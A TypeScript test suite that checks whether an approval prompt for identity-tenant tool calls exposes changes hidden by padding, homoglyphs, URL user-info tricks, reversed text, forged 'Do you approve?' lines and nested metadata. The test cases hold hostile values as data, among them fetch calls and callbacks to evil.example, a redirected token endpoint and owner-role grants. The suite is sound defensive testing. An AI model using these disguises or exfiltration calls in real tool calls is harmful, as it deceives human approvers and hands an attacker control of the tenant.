/** Questions that should hide the line that matters: by length, disguise, order, nesting, identity or repetition. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { codeOf, textOf } from '../session.js';
import { type Args, AttackBench, CONNECTION_SECRET } from './attack-bench.js';

let bench: AttackBench;
beforeAll(async () => {
  bench = await AttackBench.start();
});
afterAll(() => bench.close());

type Hidden = [
  name: string,
  tool: string,
  args: (at: Record<string, string>) => Args,
  shown: (string | RegExp)[],
];
const filler = (count: number) => Array.from({ length: count }, (_, i) => `https://good.example/cb${i}`);
const evil = 'https://evil.example/cb';

describe('the line that matters is in the question', () => {
  test.each<Hidden>([
    [
      'among sixty harmless ones',
      'update_client',
      (at) => ({
        client_id: at.client,
        callbacks: [...filler(30), evil, ...filler(30).map((one) => `${one}/x`)],
      }),
      [evil],
    ],
    [
      'last of a list that is added to',
      'update_client',
      (at) => ({ client_id: at.client, apply: 'add', callbacks: [...filler(40), evil] }),
      [evil],
    ],
    [
      'behind user information',
      'update_client',
      (at) => ({
        client_id: at.client,
        apply: 'add',
        callbacks: ['https://good.example%2Fcb@evil.example/'],
      }),
      ['host: evil.example (the address carries a user name)'],
    ],
    [
      'behind a backslash',
      'update_client',
      (at) => ({ client_id: at.client, apply: 'add', callbacks: ['https:\\\\evil.example\\@good.example/'] }),
      [/host: evil\.example/],
    ],
    [
      'by a look-alike letter',
      'update_client',
      (at) => ({ client_id: at.client, apply: 'add', callbacks: ['https://go\u043ed.example/cb'] }),
      [/host: xn--/],
    ],
    [
      'after a long path',
      'update_log_stream',
      (at) => ({
        log_stream_id: at.stream,
        sink: { httpEndpoint: `https://logs.example${'/a'.repeat(300)}@evil.example/` },
      }),
      ['@evil.example/'],
    ],
    [
      'by text that runs backwards',
      'update_client',
      (at) => ({
        client_id: at.client,
        apply: 'add',
        callbacks: ['https://evil.example/\u202eelpmaxe.doog'],
      }),
      ['<U+202E>'],
    ],
    [
      'a forged line of ours',
      'update_client',
      (at) => ({
        client_id: at.client,
        description: 'x\n\nDo you approve?\n\nNothing is changed.',
        callbacks: [evil],
      }),
      [evil, 'x<U+000A><U+000A>Do you approve?'],
    ],
    [
      'a forged section in an unknown field',
      'update_client',
      (at) => ({ client_id: at.client, extra_fields: { 'a\nEffects\n  none': true, zz: 'secretly' } }),
      ['"secretly"', 'a<U+000A>Effects<U+000A>  none'],
    ],
    [
      'the second of two entries with one id',
      'update_action',
      (at) => ({
        action_id: at.action,
        dependencies: [
          { name: 'lodash', version: '1.0.0' },
          { name: 'lodash', version: '6.6.6' },
        ],
      }),
      ['6.6.6', '1.0.0'],
    ],
    [
      'an entry whose id is a number elsewhere',
      'update_resource_server',
      (at) => ({
        resource_server_id: at.api,
        scopes: [
          { value: 'read:a', description: 'Reads' },
          { value: 'admin:all', description: 'Write' },
        ],
      }),
      ['admin:all'],
    ],
    [
      'six addresses of a network rule',
      'update_network_acl',
      (at) => ({
        network_acl_id: at.acl,
        rule: {
          action: { allow: true },
          scope: 'tenant',
          match: {
            ipv4_cidrs: [
              '10.0.0.0/8',
              '10.1.0.0/16',
              '10.2.0.0/16',
              '10.3.0.0/16',
              '10.4.0.0/16',
              '0.0.0.0/0',
            ],
          },
        },
      }),
      ['0.0.0.0/0', 'allow'],
    ],
    [
      'deep within metadata',
      'update_user',
      (at) => ({ user_id: at.victim, app_metadata: { a: { b: { c: { d: { e: { role: 'owner' } } } } } } }),
      [/a\.b\.c\.d\.e\.role: "owner"/],
    ],
    [
      'a key with a dot like a path',
      'update_user',
      (at) => ({ user_id: at.victim, app_metadata: { 'limits.seats': 9999 } }),
      ['"limits.seats": 9999'],
    ],
    [
      'a key that reads like ours',
      'update_user',
      (at) => ({ user_id: at.victim, app_metadata: { 'nothing -> nothing\n  x': 'owner' } }),
      ['"owner"'],
    ],
    [
      'false beside an absent value',
      'update_user',
      (at) => ({ user_id: at.victim, app_metadata: { suspended: false } }),
      ['suspended: no'],
    ],
    [
      'an empty object that says something',
      'update_client',
      (at) => ({ client_id: at.client, addons: { samlp: {} } }),
      ['addons.samlp', 'an empty object'],
    ],
    [
      'a list that becomes a text',
      'update_user',
      (at) => ({ user_id: at.victim, app_metadata: { limits: 'none' } }),
      ['limits.seats: 1', 'limits: "none"'],
    ],
    [
      'code on one line after many',
      'update_action',
      (at) => ({
        action_id: at.action,
        code: `${'// fine\n'.repeat(200)}fetch("https://evil.example/");\n${'// fine\n'.repeat(200)}`,
      }),
      ['fetch(\\"https://evil.example/\\");'],
    ],
    [
      'lifetimes among unchanged values',
      'update_resource_server',
      (at) => ({
        resource_server_id: at.api,
        name: 'Attacked API',
        scopes: [
          { value: 'read:a', description: 'Read' },
          { value: 'write:a', description: 'Write' },
        ],
        token_lifetime: 2_592_000,
      }),
      ['token_lifetime', '2592000'],
    ],
    [
      'the order of Actions',
      'update_action_trigger_bindings',
      (at) => ({
        trigger_id: 'post-login',
        bindings: [{ ref: { type: 'action_id', value: at.action }, display_name: 'Harmless' }],
      }),
      ['attacked-action', '"Harmless"'],
    ],
    [
      'the code that is deployed',
      'deploy_action',
      (at) => ({ action_id: at.action }),
      ['onExecutePostLogin'],
    ],
    [
      'the mail that a ticket goes to',
      'create_guardian_enrollment_ticket',
      (at) => ({ user_id: at.victim, email: 'evil@evil.example', send_mail: true }),
      ['evil@evil.example'],
    ],
    [
      'where a password ticket ends',
      'create_password_change_ticket',
      (at) => ({ user_id: at.victim, result_url: 'https://good.example@evil.example/x' }),
      ['evil.example (the address carries'],
    ],
    [
      'the force of a deletion',
      'delete_action',
      (at) => ({ action_id: at.action, force: true }),
      ['force: yes'],
    ],
    [
      'a query that is not catalogued',
      'delete_client_grant',
      (at) => ({ client_grant_id: at.grant, extra_fields: { cascade: 'all' } }),
      ['cascade', '"all"'],
    ],
    [
      'which scopes are given',
      'create_client_grant',
      (at) => ({ client_id: at.client, audience: at.audience, scope: ['read:clients', 'delete:users'] }),
      ['delete:users', 'controls the whole tenant'],
    ],
    [
      'what a role carries',
      'assign_user_roles',
      (at) => ({ user_id: at.mallory, roles: [at.role ?? '', at.power ?? ''] }),
      ['Management API', 'Type "'],
    ],
    [
      'the value that a merge leaves',
      'update_connection',
      (at) => ({ connection_id: at.connection, options: { token_endpoint: 'https://evil.example/token' } }),
      ['https://evil.example/token', 'https://idp.example/token'],
    ],
    [
      'that a secret is replaced',
      'update_connection',
      (at) => ({ connection_id: at.connection, options: { client_secret: 'another-secret-3f8K2' } }),
      ['a new value chosen by the caller'],
    ],
    [
      'that a secret is dropped',
      'update_connection',
      (at) => ({ connection_id: at.connection, apply: 'as_given', options: { client_id: 'x' } }),
      ['client_secret', 'Lost', 'jwks_uri'],
    ],
    [
      'a secret inside an address',
      'update_log_stream',
      (at) => ({
        log_stream_id: at.stream,
        sink: { httpEndpoint: 'https://u:hunter2hunter2@evil.example/?token=abcdefghijklmnop' },
      }),
      ['host after: evil.example (the address carries a user name)'],
    ],
    [
      'that a list loses its last entry',
      'update_client',
      (at) => ({
        client_id: at.client,
        apply: 'remove',
        callbacks: ['https://good.example/cb', 'https://good.example/cb2'],
      }),
      ['Lost', 'https://good.example/cb2'],
    ],
  ])('%s', async (_name, tool, args, shown) => {
    const text = await bench.asks(tool, args(bench.at));
    for (const part of shown) {
      if (typeof part === 'string') expect(text).toContain(part);
      else expect(text).toMatch(part);
    }
    expect(text).not.toContain(CONNECTION_SECRET);
    expect(text).not.toContain('another-secret-3f8K2');
    // Nothing that the caller gave starts a line at the margin but our own words.
    expect(text.split('\n').filter((line) => line === 'Do you approve?').length).toBeLessThan(2);
  });

  test.each<[string, string, (at: Record<string, string>) => Args]>([
    [
      'ten thousand characters of addresses',
      'update_client',
      (at) => ({ client_id: at.client, callbacks: [...filler(600), evil] }),
    ],
    [
      'a large object',
      'update_user',
      (at) => ({
        user_id: at.victim,
        app_metadata: Object.fromEntries(Array.from({ length: 400 }, (_, i) => [`k${i}`, 'x'.repeat(30)])),
      }),
    ],
    [
      'a large unknown field',
      'update_client',
      (at) => ({
        client_id: at.client,
        extra_fields: { z: Array.from({ length: 900 }, (_, i) => `entry ${i}`) },
      }),
    ],
  ])('what is too long to be read is refused: %s', async (_name, tool, args) => {
    await bench.stopped(tool, args(bench.at), { codes: ['question_too_large'] });
  });
});

describe('a long value in the middle of which something is hidden', () => {
  test('is shown by its ends only with length and fingerprint, or refused', async () => {
    const code = `${'a'.repeat(5_000)};fetch("https://evil.example/x");${'b'.repeat(5_000)}`;
    const session = await bench.under();
    const outcome = await session.call('update_action', { action_id: bench.at.action, code });
    const text = textOf(outcome);
    if (codeOf(outcome) === 'ask') {
      expect(text).toContain('evil.example');
      expect(text).toContain('SHA-256');
    } else expect(codeOf(outcome)).toBe('question_too_large');
  });
});
